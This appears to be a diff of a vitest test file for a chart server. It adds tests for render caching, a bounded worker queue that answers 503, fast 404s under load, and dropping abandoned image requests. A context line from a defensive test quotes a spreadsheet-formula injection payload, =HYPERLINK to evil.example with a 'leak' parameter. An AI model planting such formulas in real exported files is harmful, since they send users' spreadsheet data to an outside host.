@@ -1,7 +1,7 @@
 // Chart images and CSV downloads: valid PNG and SVG files of the chart the page draws, CSVs that hold
 // exactly the drawn figures, and source text that cannot run as a spreadsheet formula.
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { availableParallelism, tmpdir } from 'node:os';
 import path from 'node:path';
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
@@ -193,5 +193,97 @@ describe('a hostile source string', () => {
 		expect(await page.locator('.source').innerText()).toContain(HOSTILE);
 		const svg = await (await fetch(`${server.url}/chart/flows.svg?${Q}`)).text();
 		expect(svg).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
+	});
+});
+
+describe('bounded rendering (worker pool, queue, cache)', () => {
+	let server: TestServer;
+	// The server runs on this machine: its pool has one worker per core, and 4 waiting jobs per worker.
+	const workers = availableParallelism();
+	const capacity = workers * 5;
+	// Big images (1600 × 1200 at 2×: about half a second each), each of another view (width), so
+	// neither the cache nor the sharing of a drawing in progress can answer them.
+	let nextWidth = 1000;
+	const bigImage = () => `${server.url}/chart/flows.png?${Q}&width=${nextWidth++}&height=1200&scale=2`;
+
+	beforeAll(async () => {
+		server = await startServer(path.join(ROOT, 'data'));
+	});
+	afterAll(async () => server?.stop());
+
+	it('answers the same view from the cache, however its query is spelled', async () => {
+		const url = `${server.url}/chart/balance.png?${Q}&width=777&height=432`;
+		const first = await fetch(url);
+		expect(first.status).toBe(200);
+		expect(first.headers.get('x-render-cache')).toBe('miss');
+		const body = Buffer.from(await first.arrayBuffer());
+		const again = await fetch(url);
+		expect(again.headers.get('x-render-cache')).toBe('hit');
+		expect(Buffer.from(await again.arrayBuffer()).equals(body)).toBe(true);
+		// The same view: parameters in another order, and one the view does not know.
+		const respelled = await fetch(
+			`${server.url}/chart/balance.png?height=432&to=2020&from=2000&width=777&partner=NLD&reporter=KOR&utm=x`
+		);
+		expect(respelled.headers.get('x-render-cache')).toBe('hit');
+		// Another format of the same view is another image.
+		expect((await fetch(url.replace('.png', '.svg'))).headers.get('x-render-cache')).toBe('miss');
+	});
+
+	it('refuses requests beyond the queue with 503 and Retry-After, and draws the rest', async () => {
+		const responses = await Promise.all(
+			Array.from({ length: capacity + 40 }, () =>
+				fetch(bigImage()).then(async (r) => ({
+					status: r.status,
+					retryAfter: r.headers.get('retry-after'),
+					size: (await r.arrayBuffer()).byteLength
+				}))
+			)
+		);
+		const refused = responses.filter((r) => r.status === 503);
+		const drawn = responses.filter((r) => r.status === 200);
+		expect(refused.length + drawn.length).toBe(responses.length);
+		// How many are refused depends on how fast the first ones are drawn meanwhile; some must be.
+		expect(refused.length).toBeGreaterThan(0);
+		expect(drawn.length).toBeGreaterThanOrEqual(workers);
+		for (const r of refused) expect(r.retryAfter).toMatch(/^[1-9]\d*$/);
+		for (const r of drawn) expect(r.size).toBeGreaterThan(10_000);
+	});
+
+	it('answers a 404 promptly while the workers are busy with images', async () => {
+		const load = Array.from({ length: capacity }, () => fetch(bigImage()).then((r) => r.arrayBuffer()));
+		await new Promise((r) => setTimeout(r, 200));
+		const times: number[] = [];
+		for (let i = 0; i < 5; i++) {
+			const started = performance.now();
+			const response = await fetch(`${server.url}/no-such-page-${i}`);
+			await response.arrayBuffer();
+			expect(response.status).toBe(404);
+			times.push(performance.now() - started);
+		}
+		await Promise.all(load);
+		// Rendering on the event loop made a 404 wait for every queued image (seconds); in workers it
+		// waits for nothing. A generous bound: the median of five, on a busy 2-core machine.
+		const median = [...times].sort((a, b) => a - b)[2] ?? Infinity;
+		expect(median, `404 times: ${times.map((t) => t.toFixed(0)).join(', ')} ms`).toBeLessThan(1000);
+	});
+
+	it('never draws an image whose client went away before its turn', async () => {
+		// Keep the workers and most of the queue busy, then ask for three images and hang up at once.
+		const blockers = Array.from({ length: workers * 3 }, () => fetch(bigImage()).then((r) => r.arrayBuffer()));
+		await new Promise((r) => setTimeout(r, 100));
+		const abandoned = [bigImage(), bigImage(), bigImage()];
+		const controller = new AbortController();
+		const gone = abandoned.map((url) => fetch(url, { signal: controller.signal }).catch(() => null));
+		await new Promise((r) => setTimeout(r, 100));
+		controller.abort();
+		await Promise.all([...blockers, ...gone]);
+		// The server says how many it dropped; and none of those views is in the cache: never drawn.
+		await expect.poll(() => server.stderr(), { timeout: 5_000 }).toMatch(/\[render\] dropped \d+ image request/);
+		const dropped = [...server.stderr().matchAll(/\[render\] dropped (\d+)/g)].reduce((n, m) => n + Number(m[1]), 0);
+		expect(dropped).toBe(abandoned.length);
+		for (const url of abandoned) {
+			const response = await fetch(url);
+			expect(response.headers.get('x-render-cache'), url).toBe('miss');
+		}
 	});
 });
